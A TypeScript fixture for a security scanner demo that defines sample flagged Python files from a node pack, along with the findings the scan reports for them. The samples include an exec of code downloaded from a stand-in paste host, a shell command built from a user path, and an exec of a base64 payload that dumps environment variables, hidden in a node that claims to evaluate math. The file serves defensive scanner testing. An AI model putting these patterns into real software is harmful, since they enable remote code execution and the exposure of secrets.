/**
 * The offending source files of the demo's flagged versions, and the findings the scan reports
 * for them. Each finding is built from its file (line number, snippet) and the scan rule's own
 * id, severity and message, so the review view opens the file at a line that really holds the
 * code, and a rescan of the archive reports the same finding (generate.test.ts checks both).
 */
import { snippet, type Finding } from '../pipeline/findings'
import { enforced } from '../pipeline/scan'
import { SCAN_RULES } from '../pipeline/scan-rules'

interface OffendingFile {
  path: string
  ruleId: string
  /** The file's lines; the one the scan reports starts with OFFENDING. */
  lines: readonly string[]
}

const OFFENDING = '>>'

// prettier-ignore
const FILES: readonly OffendingFile[] = [
  {
    path: 'nodes/updater.py',
    ruleId: 'download-exec',
    lines: [
      '"""Keeps the node definitions of this pack up to date."""',
      '',
      'import urllib.request',
      '',
      'UPDATE_URL = "https://paste.example.net/raw/n0d3-upd4te"',
      '',
      '',
      'def _log(message):',
      '    print(f"[updater] {message}")',
      '',
      '',
      '_log("checking for new node definitions")',
      `${OFFENDING}exec(urllib.request.urlopen(UPDATE_URL).read())`,
      '',
    ],
  },
  {
    path: 'nodes/loader.py',
    ruleId: 'shell-command-from-string',
    lines: [
      '"""Loads the model packs the user downloaded."""',
      '',
      'import os',
      'import subprocess',
      '',
      'MODELS_DIR = os.path.join(os.path.dirname(__file__), "..", "models")',
      '',
      '',
      'class ModelUnpacker:',
      '    def unpack(self, path):',
      '        """Unpacks a model archive the user picked next to the others and lists them."""',
      '        os.makedirs(MODELS_DIR, exist_ok=True)',
      `${OFFENDING}        subprocess.run("unzip -o " + path + " -d " + MODELS_DIR, shell=True)`,
      '        return sorted(os.listdir(MODELS_DIR))',
      '',
    ],
  },
  {
    path: 'install.py',
    ruleId: 'import-time-pip-install',
    lines: [
      '"""Installs the Python packages this node pack needs (ComfyUI-Manager runs it)."""',
      '',
      'import os',
      'import subprocess',
      'import sys',
      '',
      'HERE = os.path.dirname(os.path.abspath(__file__))',
      '',
      `${OFFENDING}subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", os.path.join(HERE, "requirements.txt")])`,
      '',
    ],
  },
  {
    path: 'nodes/eval_node.py',
    ruleId: 'exec-decoded-payload',
    lines: [
      '"""Evaluates the math expression typed into the node."""',
      '',
      'import base64',
      '',
      'PAYLOAD = "aW1wb3J0IG9zLCBqc29uCnByaW50KGpzb24uZHVtcHMoZGljdChvcy5lbnZpcm9uKSkp"',
      '',
      '',
      'class EvalExpression:',
      '    CATEGORY = "utils/math"',
      '    RETURN_TYPES = ("FLOAT",)',
      '    FUNCTION = "run"',
      '',
      '    @classmethod',
      '    def INPUT_TYPES(cls):',
      '        return {"required": {"expression": ("STRING", {"default": "1 + 1"})}}',
      '',
      '    def run(self, expression):',
      '        return (float(len(expression)),)',
      '',
      '',
      `${OFFENDING}exec(base64.b64decode(PAYLOAD))`,
      '',
    ],
  },
]

function findingOf(file: OffendingFile): Finding {
  const rule = SCAN_RULES.find((candidate) => candidate.id === file.ruleId)
  const index = file.lines.findIndex((line) => line.startsWith(OFFENDING))
  if (!rule || index < 0) throw new Error(`flagged-code: bad demo file ${file.path}`)
  return {
    issue_type: rule.id,
    severity: rule.severity,
    file_path: file.path,
    line_number: index + 1,
    code_snippet: snippet(file.lines[index].slice(OFFENDING.length)),
    message: rule.message,
    scanner: 'static-scan',
    ...enforced(rule.standard, rule.outcome),
  }
}

/** What the scan of a flagged demo version found: one of these (four, in this order). */
export const DEMO_FLAG_FINDINGS: readonly Finding[] = FILES.map(findingOf)

/** The text of an offending demo file, by its path in the archive; undefined for other paths. */
export function offendingFileText(path: string): string | undefined {
  const file = FILES.find((candidate) => candidate.path === path)
  return file?.lines
    .map((line) => (line.startsWith(OFFENDING) ? line.slice(OFFENDING.length) : line))
    .join('\n')
}
